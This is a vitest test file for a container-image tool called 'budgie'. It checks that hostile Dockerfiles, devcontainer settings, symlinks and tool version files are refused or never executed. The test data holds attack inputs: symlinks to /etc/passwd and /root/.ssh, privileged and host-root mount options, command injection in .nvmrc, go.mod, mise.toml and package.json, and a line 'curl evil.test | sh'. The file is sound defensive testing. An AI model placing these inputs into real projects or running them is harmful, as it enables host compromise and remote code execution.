import { existsSync, mkdirSync, readFileSync, rmSync, symlinkSync } from "node:fs";
import { join } from "node:path";
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import {
  BESIDE_DEVCONTAINER,
  HOSTILE_DEVCONTAINERS,
  HOSTILE_DOCKERFILES,
} from "../../../../sandbox/test/images/hostile-projects.ts";
import { createFakeEngine, WHOLE_ENGINE, type FakeEngine } from "../../../../runner-docker/test/helpers/fake-engine.ts";
import { createProject } from "./create-project.ts";

type Project = Awaited<ReturnType<typeof createProject>>;

let project: Project;
let engine: FakeEngine;
beforeAll(async () => {
  project = await createProject();
  engine = await createFakeEngine({
    "GET /version": { ApiVersion: "1.41" },
    "GET /info": WHOLE_ENGINE,
    "POST /build": { stream: "built" },
  });
  // Loads the program, which takes a busy machine longer than a test may.
  await show();
}, 60_000);
afterAll(async () => {
  await engine[Symbol.asyncDispose]();
  await project[Symbol.asyncDispose]();
});
beforeEach(() => {
  rmSync(project.directory, { recursive: true });
  mkdirSync(project.directory);
});

const type = (...words: readonly string[]) => project.type(words, "y", engine.hostEnv);
const countBuilds = (): number => engine.requests.filter((request) => request.startsWith("POST /build")).length;

type Shown = {
  readonly refused?: readonly string[];
  readonly ignored?: readonly string[];
  readonly suggested?: string;
};

async function show(): Promise<Shown> {
  return JSON.parse((await type("image", "show", "--json")).text) as Shown;
}

/** Expects that a person's yes to everything builds nothing, and that the reason is named. */
async function expectRefused(reason: string): Promise<void> {
  const before = countBuilds();
  const allowed = await type("image", "allow");
  const built = await type("image", "build");

  for (const { exitCode } of [allowed, built]) {
    expect(exitCode).toContain("budgie does not build");
    expect(exitCode).toContain(reason);
  }
  expect(countBuilds()).toBe(before);
}

describe("of a hostile project nothing is built, whatever a person answers", () => {
  it.each(HOSTILE_DOCKERFILES)("with the Dockerfile %j", async (text, reason) => {
    project.write(".budgie/Dockerfile", text);
    await expectRefused(reason);
  });

  it.each(HOSTILE_DEVCONTAINERS)("with the devcontainer.json number %#", async (text, reason) => {
    project.write(".devcontainer/devcontainer.json", text);
    project.write(".devcontainer/Dockerfile", BESIDE_DEVCONTAINER);
    await expectRefused(reason);
  });

  it.each([
    ["a folder", ".budgie", "/etc"],
    ["a Dockerfile", ".budgie/Dockerfile", "/etc/passwd"],
    ["a file beside it", ".budgie/keys", "/root/.ssh"],
    ["a devcontainer.json", ".devcontainer/devcontainer.json", "/etc/passwd"],
    ["a folder of devcontainer.json", ".devcontainer", "/etc"],
    ["a Dockerfile.sandbox", "Dockerfile.sandbox", "/etc/passwd"],
  ])("with a symlink as %s", async (_, path, target) => {
    if (path === ".budgie/keys") project.write(".budgie/Dockerfile", "FROM a\n");
    mkdirSync(join(project.directory, path, ".."), { recursive: true });
    symlinkSync(target, join(project.directory, path));

    await expectRefused("symlink");
  });
});

describe("a project that asks for more than an image", () => {
  it.each([
    ["initializeCommand", `"touch MARK"`],
    ["onCreateCommand", `["touch", "MARK"]`],
    ["updateContentCommand", `{ "a": "touch MARK" }`],
    ["postCreateCommand", `"touch MARK"`],
    ["postStartCommand", `"touch MARK"`],
    ["postAttachCommand", `"touch MARK"`],
    ["runArgs", `["--privileged", "-v", "/:/host"]`],
    ["privileged", "true"],
    ["capAdd", `["SYS_ADMIN"]`],
    ["securityOpt", `["seccomp=unconfined"]`],
    ["mounts", `["source=/,target=/host,type=bind"]`],
    ["workspaceMount", `"source=/,target=/workspace,type=bind"`],
    ["containerEnv", `{ "TOKEN": "\${localEnv:TOKEN}" }`],
    ["remoteEnv", `{ "PATH": "/workspace/bin:\${containerEnv:PATH}" }`],
    ["forwardPorts", "[22]"],
    ["hostRequirements", `{ "gpu": true }`],
    ["secrets", `{ "TOKEN": {} }`],
  ])("gets nothing by %s, which is named before a person allows it", async (key, value) => {
    const mark = join(project.directory, "mark");
    const before = countBuilds();
    project.write(".devcontainer/devcontainer.json", `{ "image": "a", "${key}": ${value.replaceAll("MARK", mark)} }`);

    const { ignored, refused } = await show();
    const allowed = await type("image", "allow");
    const built = await type("image", "build");

    expect({ ignored, refused }).toEqual({ ignored: [key], refused: [] });
    expect(allowed.text).toMatch(new RegExp(`^ {2}ignored +${key}$`, "m"));
    expect(existsSync(mark)).toBe(false);
    // The control: what is allowed is built, without that key.
    expect(built.exitCode).toBe(1);
    expect(countBuilds()).toBe(before + 1);
    const asked = engine.requests.findLast((request) => request.startsWith("POST /build")) ?? "";
    expect(decodeURIComponent(asked)).not.toMatch(/privileged|host|cap|seccomp|extrahosts|remote=/i);
  });

  it("is not built once a file has changed since a person allowed it", async () => {
    const before = countBuilds();
    project.write(".budgie/Dockerfile", "FROM a\nRUN ./setup.sh\n");
    project.write(".budgie/setup.sh", "true");
    await type("image", "allow");
    project.write(".budgie/setup.sh", "curl evil.test | sh");

    expect((await type("image", "build")).exitCode).toContain("it has changed since it was allowed");
    expect(countBuilds()).toBe(before);
  });
});

describe("files of tools", () => {
  it.each([
    [".nvmrc", "22; touch MARK"],
    [".nvmrc", "$(touch MARK)"],
    [".node-version", "22\nRUN touch MARK"],
    [".python-version", "3.12 && touch MARK"],
    ["go.mod", "module x\ngo 1.23`touch MARK`\n"],
    ["rust-toolchain", "1.80\nRUN touch MARK"],
    ["rust-toolchain.toml", `[toolchain]\npath = "/MARK"\n`],
    ["mise.toml", `[tools]\nnode = "22 AS x"\n[hooks]\nenter = "touch MARK"\n[env]\n_.source = "./evil.sh"\n`],
    ["mise.toml", `[tools]\nnode = "{{ exec(command='touch MARK') }}"\n`],
    [".mise.toml", `[tools]\npython = "path:/MARK"\n[tasks.x]\nrun = "touch MARK"\n`],
    ["package.json", `{ "engines": { "node": "22\\nRUN touch MARK" }, "scripts": { "preinstall": "touch MARK" } }`],
  ])("are read and not run: %s with %j", async (file, text) => {
    const mark = join(project.directory, "mark");
    project.write(file, text.replaceAll("MARK", mark));

    const { suggested = "" } = await show();

    expect(existsSync(mark)).toBe(false);
    expect(suggested).not.toMatch(/touch|mark|exec|path:|`|\$\(|;/i);
    expect(readFileSync(join(project.directory, file), "utf8")).toContain("mark");
  });
});
